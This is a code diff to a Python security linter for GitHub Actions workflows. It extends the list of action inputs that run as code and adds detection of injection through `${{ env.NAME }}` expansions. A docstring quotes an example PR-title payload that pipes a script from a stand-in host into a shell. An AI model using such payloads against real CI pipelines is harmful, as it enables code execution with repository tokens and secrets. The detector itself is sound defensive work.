@@ -119,16 +119,18 @@ def action_not_pinned_to_sha(wf: Workflow) -> Iterator[Finding]:
 
 
 # Action inputs that the action runs as code (script, shell command or expression).
-CODE_INPUTS = {
-    "actions/github-script": "script",
-    "amadevus/pwsh-script": "script",
-    "mikefarah/yq": "cmd",
-    "addnab/docker-run-action": "run",
-    "azure/cli": "inlinescript",
-    "azure/powershell": "inlinescript",
-    "appleboy/ssh-action": "script",
-    "jannekem/run-python-script-action": "script",
-    "cardinalby/js-eval-action": "expression",
+CODE_INPUTS: dict[str, tuple[str, ...]] = {
+    "actions/github-script": ("script",),
+    "amadevus/pwsh-script": ("script",),
+    "mikefarah/yq": ("cmd",),
+    "addnab/docker-run-action": ("run",),
+    "azure/cli": ("inlinescript",),
+    "azure/powershell": ("inlinescript",),
+    "appleboy/ssh-action": ("script",),
+    "jannekem/run-python-script-action": ("script",),
+    "cardinalby/js-eval-action": ("expression",),
+    # lodash templates: `<%= %>` in the expanded text runs as JavaScript
+    "tibdex/backport": ("title_template", "body_template"),
 }
 
 
@@ -138,11 +140,9 @@ def _shell_nodes(step: Step) -> Iterator[tuple[YNode, str]]:
         yield step.run, "run:"
     if step.uses is None or step.uses.kind != "repo" or step.with_ is None:
         return
-    key = CODE_INPUTS.get(step.uses.action)
-    if key is None:
-        return
+    keys = CODE_INPUTS.get(step.uses.action, ())
     for k, v in step.with_.items():
-        if k.is_scalar and str(k.value).lower() == key and v.is_scalar:
+        if k.is_scalar and str(k.value).lower() in keys and v.is_scalar:
             yield v, f"{step.uses.action} {k.value}:"
 
 
@@ -164,7 +164,8 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
     PR title or body, branch name, comment or commit message is chosen by whoever opens it, so a
     title such as `"; curl evil.sh | sh; #` becomes code running with the job's token and
     secrets. Passing the value through `env:` and quoting
-    the variable (`"$TITLE"`) keeps it data, and is not flagged.
+    the variable (`"$TITLE"`) keeps it data, and is not flagged; expanding that variable again
+    as `${{ env.TITLE }}` is the same injection, and is.
 
     ## Why it matters
     Script injection through PR titles and branch names is the most common way public
@@ -189,6 +190,37 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
                             "pass it through env: and quote the variable",
                             properties={"context": ctx},
                         )
+                    for name in _ENV_REF.findall(e.text):
+                        source = _env_value(step, name)
+                        if source is None:
+                            continue
+                        tainted = [
+                            c
+                            for x in expressions(wf.file, source)
+                            for c in attacker_contexts(x.text)
+                        ]
+                        if tainted:
+                            yield Finding(
+                                e.span,
+                                f"env.{name} holds {tainted[0]} and is expanded into {where} of "
+                                f"{step.label} in job {job.id}; use the shell variable "
+                                f'"${name}" instead of ${{{{ env.{name} }}}}',
+                                related=(Related(source.span, f"env.{name} is set here"),),
+                                properties={"context": tainted[0]},
+                            )
+
+
+_ENV_REF = re.compile(r"\benv\.([A-Za-z_][A-Za-z0-9_-]*)")
+
+
+def _env_value(step: Step, name: str) -> YNode | None:
+    """The value `env.NAME` has in a step: the step's env, else the job's, else the workflow's."""
+    for env in (step.env, step.job.env, step.workflow.env):
+        if env is not None and env.is_map:
+            v = env.get(name)
+            if v is not None:
+                return v
+    return None
 
 
 _HEAD_REF = re.compile(
